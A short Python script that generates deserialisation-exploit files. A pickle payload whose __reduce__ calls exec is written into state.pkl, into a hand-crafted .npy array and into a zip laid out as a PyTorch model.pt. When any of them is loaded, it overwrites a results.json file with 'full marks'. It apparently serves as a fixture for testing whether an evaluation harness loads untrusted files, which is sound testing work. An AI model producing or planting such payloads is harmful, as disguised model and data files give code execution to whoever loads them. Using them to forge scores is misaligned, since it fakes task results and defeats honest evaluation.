import pickle
import zipfile
from pathlib import Path

import numpy as np


class Evil:
    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> tuple[object, ...]:
        code = f"import io; io.FileIO({str(self.path)!r}, 'w').write(b'full marks')"
        return exec, (code,)


def build(folder: Path) -> None:
    evil = pickle.dumps(Evil(folder.parent / "world" / "out" / "results.json"), protocol=2)
    (folder / "state.pkl").write_bytes(evil)
    (folder / "images.npy").write_bytes(_npy(evil))
    with zipfile.ZipFile(folder / "model.pt", "w") as archive:
        archive.writestr("model/data.pkl", evil)
        archive.writestr("model/version", "3\n")
        archive.writestr("model/byteorder", "little")


def _npy(pickled: bytes) -> bytes:
    array = np.array([None], dtype=object)
    header = np.lib.format.header_data_from_array_1_0(array)
    text = (repr(header) + "\n").encode()
    return b"\x93NUMPY\x01\x00" + len(text).to_bytes(2, "little") + text + pickled
